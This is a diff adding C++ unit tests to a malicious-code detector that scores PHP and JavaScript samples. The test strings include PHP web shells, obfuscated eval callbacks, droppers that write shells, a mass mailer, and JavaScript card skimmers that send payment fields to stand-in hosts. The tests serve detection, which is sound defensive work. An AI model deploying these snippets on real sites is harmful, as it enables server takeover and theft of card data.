@@ -26,6 +26,24 @@ std::vector<CodeTrait> Js(std::string_view src) {
   return out;
 }
 
+std::string Base64(std::string_view in) {
+  static const char* a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  std::string out;
+  size_t i = 0;
+  for (; i + 2 < in.size(); i += 3) {
+    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
+    for (int k = 3; k >= 0; --k) out += a[(v >> (6 * k)) & 63];
+  }
+  if (in.size() - i == 1) {
+    uint32_t v = uint8_t(in[i]) << 16;
+    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += "==";
+  } else if (in.size() - i == 2) {
+    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8);
+    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += a[(v >> 6) & 63], out += '=';
+  }
+  return out;
+}
+
 int Strongest(const std::vector<CodeTrait>& t, std::string_view family = "") {
   int s = 0;
   for (const CodeTrait& c : t)
@@ -62,6 +80,211 @@ TEST(Behaviour, ForeignScriptHostsInHtml) {
   std::vector<CodeTrait> none;
   AnalyzeHtml("<p>no scripts here</p>", "html", none);
   EXPECT_TRUE(none.empty());
+}
+
+// Whole pipeline (lex, fold, decode, analyse): the strongest trait of one family.
+int Pipeline(std::string_view src, std::string_view family = "") {
+  return Strongest(Normalize(src, CodeKind::kPhp).traits, family);
+}
+
+TEST(Behaviour, ShortOpenTagsAndPhpScriptElementsAreCode) {
+  EXPECT_GE(Pipeline("<?@include($_POST[\"code\"]);?>", "exec"), 4);
+  EXPECT_GE(Pipeline("<?$x=$_GET['c'];system($x);?>", "exec"), 4);
+  EXPECT_GE(Pipeline("<script language=\"php\">eval($_POST['z']);</script>", "exec"), 4);
+  // An XML declaration is not a short tag; a plain <script> is not PHP.
+  EXPECT_EQ(Pipeline("<?xml version=\"1.0\"?><a>eval($_POST['z'])</a>", "exec"), 0);
+  EXPECT_EQ(Pipeline("<html><script>eval(location.hash)</script></html>", "exec"), 0);
+}
+
+TEST(Behaviour, BareWordsBesideBitwiseOperatorsFold) {
+  // getenv spelled as '      ' | get.'env': the bare word is a string next to '.'.
+  EXPECT_GE(Pipeline("<?php $f = '      ' | get . 'env'; eval($f('HTTP_X_CMD'));", "exec"), 4);
+  auto n = Normalize("<?php $n = '   ' | abc . 'def'; echo $n;", CodeKind::kPhp);
+  ASSERT_FALSE(n.layers.empty());
+  EXPECT_NE(n.layers[0].text.find("'abcdef'"), std::string::npos) << n.layers[0].text;
+}
+
+TEST(Behaviour, FunctionsTakenFromArraysOrReflectionOnRequestInput) {
+  EXPECT_GE(Pipeline("<?php $i['w'] = 'assert'; $a[] = $i; $a[0]['w']($_POST['k']);", "exec"), 3);
+  EXPECT_GE(Pipeline("<?php $f = new ReflectionFunction($_GET['m']);"
+                     " echo $f->invokeArgs(array($_GET['c']));",
+                     "exec"),
+            4);
+  // A handler table called on the application's own values.
+  EXPECT_LT(Pipeline("<?php $h = ['a' => 'strtoupper']; echo $h['a']($name);", "exec"), 3);
+  EXPECT_LT(Pipeline("<?php $r = new ReflectionFunction('strlen'); echo $r->getName();", "exec"),
+            3);
+}
+
+TEST(Behaviour, SinkNamesHiddenByAnEncodingAndComputedCallbacks) {
+  EXPECT_GE(Pipeline("<?php $s = $db->query('SELECT 1');"
+                     " $r = $s->fetchAll(PDO::FETCH_FUNC, str_rot13('nffreg'));",
+                     "exec"),
+            3);
+  EXPECT_GE(Pipeline("<?php $f = pack('H*', '13' . '3f12') ^ $key;"
+                     " array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), $f);",
+                     "exec"),
+            3);
+  EXPECT_GE(Pipeline("<?php $r = 'c'.'o'.'p'.'y'; $r($_FILES[f][tmp_name], $_FILES[f][name]);"), 3);
+  EXPECT_GE(Pipeline("<?php mb_ereg_replace_callback('.+', create_function('$a',"
+                     " 'return assert($a[0]);'), $_REQUEST['p']);",
+                     "exec"),
+            4);
+  // rot13 of an ordinary word, a callback the code names in plain.
+  EXPECT_LT(Pipeline("<?php usort($rows, str_rot13('pbzcner'));"), 3);
+  EXPECT_LT(Pipeline("<?php array_intersect_uassoc($a, $b, 'strcasecmp');"), 3);
+}
+
+TEST(Behaviour, DroppersWritingPhpCode) {
+  std::string payload = "<?php @eval($_POST['x']); ?>";
+  std::string hex;
+  for (unsigned char c : payload) {
+    const char* d = "0123456789abcdef";
+    hex += d[c >> 4], hex += d[c & 15];
+  }
+  EXPECT_GE(Pipeline("<?php fputs(fopen('a.php', 'w'), pack('H*', '" + hex + "'));", "upload"), 3);
+  // The page it writes is analysed as PHP of its own.
+  EXPECT_GE(Pipeline("<?php $p = '<title>x</title><?php system(\"$_GET[cmd]\"); ?>';"
+                     " $r = fopen('../g.php', 'w'); fwrite($r, $p);",
+                     "exec"),
+            4);
+  // A hex literal echoed: decoded and read as code.
+  EXPECT_GE(Pipeline("<?php echo sprintf('" + hex.substr(12) + "');", "exec"), 4);
+  // A cache writer putting generated PHP in a file is at most medium.
+  EXPECT_LT(
+      Pipeline("<?php file_put_contents($cache, '<?php return ' . var_export($c, true) . ';');"),
+      3);
+}
+
+TEST(Behaviour, FunctionBodiesAreWholeBlocks) {
+  // The parameter is the request's in every statement of the body, not only the first.
+  EXPECT_GE(Pipeline("<?php $c = trim($_POST['x']); $i = s2a($c);"
+                     " function s2a($d) { if ($d == '') return array(); @eval(\"\\$a = $d;\");"
+                     " return $a; }",
+                     "exec"),
+            4);
+}
+
+TEST(Behaviour, ExtractedRequestVariablesReachSinks) {
+  EXPECT_GE(Pipeline("<?php if ($cmd == 'run') { echo system(\"$file\"); }"
+                     " extract($HTTP_POST_VARS);",
+                     "exec"),
+            4);
+  // Without extract the same variable is the application's.
+  EXPECT_LT(Pipeline("<?php if ($cmd == 'run') { echo system(\"$file\"); }", "exec"), 3);
+  // A variable the scope assigns itself is not the request's.
+  EXPECT_LT(Pipeline("<?php extract($_POST); $file = '/usr/bin/uptime'; system($file);", "exec"),
+            3);
+}
+
+TEST(Behaviour, DatabaseConsolesMailersAndBeacons) {
+  EXPECT_GE(Pipeline("<?php $h = $_REQUEST['host']; $c = mysql_connect($h, $_REQUEST['u'],"
+                     " $_REQUEST['p']); $r = mysql_query($_POST['sql']);",
+                     "database"),
+            3);
+  EXPECT_GE(Pipeline("<?php $db = new mysqli($_POST['h'], $_POST['u'], $_POST['p']);"
+                     " $db->query($_POST['q']);",
+                     "database"),
+            3);
+  // A query with a request value inside a fixed template is not a console.
+  EXPECT_LT(Pipeline("<?php $c = mysqli_connect('localhost', 'shop', $pw);"
+                     " mysqli_query($c, 'SELECT * FROM t WHERE id=' . (int)$_GET['id']);",
+                     "database"),
+            2);
+  EXPECT_GE(Pipeline("<?php set_time_limit(0); $l = file('list.txt');"
+                     " foreach ($l as $to) { mail(trim($to), $subj, $body, $hdr); }",
+                     "mailer"),
+            3);
+  EXPECT_LT(Pipeline("<?php mail($admin, 'Order', $text);"), 2);
+  EXPECT_GE(Pipeline("<?php $m = $_SERVER['DOCUMENT_ROOT'] . ' ' . $_SERVER['HTTP_HOST'];"
+                     " mail('drop@example.net', 'new', $m);",
+                     "exfil"),
+            3);
+}
+
+int JsPipeline(std::string_view src, std::string_view family = "") {
+  return Strongest(Normalize(src, CodeKind::kJs).traits, family);
+}
+
+TEST(BehaviourJs, ObfuscatorStringArrayWithRotation) {
+  // obfuscator.io's shape: a string table rotated at start-up and read through a lookup
+  // function; the names in the table still say what the code does.
+  EXPECT_GE(
+      JsPipeline("var _0x4a1f=['getElementById','cc_number','value','Image','src',"
+                 "'https://px.example.top/i.gif?d=','btoa'];(function(_0x2d8f05,_0x4b81bb){var "
+                 "_0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05["
+                 "'shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4a1f,0x1b3));var _0x2e3c=function("
+                 "_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4a1f[_0x2d8f05];"
+                 "return _0x4d74cb;};var _0x1=document[_0x2e3c('0x0')](_0x2e3c('0x1'))[_0x2e3c("
+                 "'0x2')];var _0x2=new window[_0x2e3c('0x3')]();_0x2[_0x2e3c('0x4')]=_0x2e3c("
+                 "'0x5')+window[_0x2e3c('0x6')](_0x1);",
+                 "exfil"),
+      4);
+}
+
+TEST(BehaviourJs, AtobEvalAndFromCharCodeBuilders) {
+  std::string inner =
+      "document.querySelector('#payment').addEventListener('submit',function(){var d=new "
+      "FormData(this);d.append('c',document.getElementById('cc_number').value);navigator."
+      "sendBeacon('https://sync.example.com/c',d);});";
+  EXPECT_GE(JsPipeline("this['eval'](this['atob']('" + Base64(inner) + "'));", "exfil"), 4);
+  EXPECT_GE(JsPipeline("var u=String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,"
+                       "97,109,112,108,101,47,103);function send(){var f=document."
+                       "querySelectorAll('input, select');var s='';for(var i=0;i<f.length;i++)"
+                       "{s+=f[i].name+'='+f[i].value+'&';}fetch(u,{method:'POST',body:btoa(s)});}"
+                       "if(location.href.indexOf('checkout')>-1){document.addEventListener("
+                       "'change',send);}",
+                       "exfil"),
+            3);
+}
+
+TEST(BehaviourJs, FakeFormsActionRewriteAndLocalStorageStaging) {
+  EXPECT_GE(JsPipeline("if (location.pathname.indexOf('onestepcheckout') !== -1) {"
+                       " document.querySelector('#pm').insertAdjacentHTML('beforeend', '<input "
+                       "id=\"cn\" name=\"cardnumber\"><input name=\"cvc\">');"
+                       " var ws = new WebSocket('wss://m.example.net/ws'); ws.onopen = function"
+                       " () { ws.send(document.getElementById('cn').value); }; }",
+                       "exfil"),
+            4);
+  EXPECT_GE(JsPipeline("jQuery(function($){ if (/checkout/.test(location.pathname)) {"
+                       " $('form#co-payment-form').attr('action',"
+                       " 'https://pay.example.xyz/collect.php'); } });",
+                       "exfil"),
+            3);
+  EXPECT_GE(JsPipeline("document.addEventListener('input', function (e) { if (/cc_|cvv/i.test("
+                       "e.target.name)) { localStorage.setItem('_s', e.target.value); } });"
+                       " window.addEventListener('beforeunload', function () { var x = new "
+                       "XMLHttpRequest(); x.open('POST', 'https://c.example.org/p');"
+                       " x.send(localStorage.getItem('_s')); });",
+                       "exfil"),
+            3);
+  // A search form pointed at the store's own path, and a card-number formatter with no
+  // channel out, are not exfiltration.
+  EXPECT_LT(
+      JsPipeline("document.getElementById('search').action = '/catalogsearch/result/';", "exfil"),
+      2);
+  EXPECT_EQ(JsPipeline("var cc = document.getElementById('cc_number'); cc.addEventListener("
+                       "'input', function () { cc.value = cc.value.replace(/\\D/g, '')"
+                       ".replace(/(.{4})/g, '$1 ').trim(); });",
+                       "exfil"),
+            0);
+}
+
+TEST(Behaviour, OwnDecoderFunctionsAndWindowsShellObjects) {
+  // A decoder written in the file (a loop of chr/hexdec/substr), its output called.
+  const char* decoder =
+      "<?php function dx($s, $k) { $t = ''; for ($i = 0; $i < strlen($s); $i += 2) {"
+      " $t .= chr(hexdec(substr($s, $i, 2)) - $k); } return $t; }";
+  EXPECT_GE(
+      Pipeline(std::string(decoder) + " $f = dx('6A767C', '3'); $f(dx('6776', '5'));", "exec"), 3);
+  EXPECT_GE(Pipeline(std::string(decoder) + " eval(dx('6776666E28', '4'));", "exec"), 3);
+  // A closure that decodes, called on data: a codec, not a hidden name.
+  EXPECT_LT(Pipeline("<?php $decode = function ($v) { return rawurldecode($v); };"
+                     " $key = $decode($parts[0]);",
+                     "exec"),
+            3);
+  EXPECT_GE(Pipeline("<?php $sh = new COM('WScript.Shell'); $sh->Run($cmd);", "exec"), 3);
+  EXPECT_LT(Pipeline("<?php $w = new COM('Word.Application'); $w->Visible = 1;", "exec"), 3);
 }
 
 }  // namespace
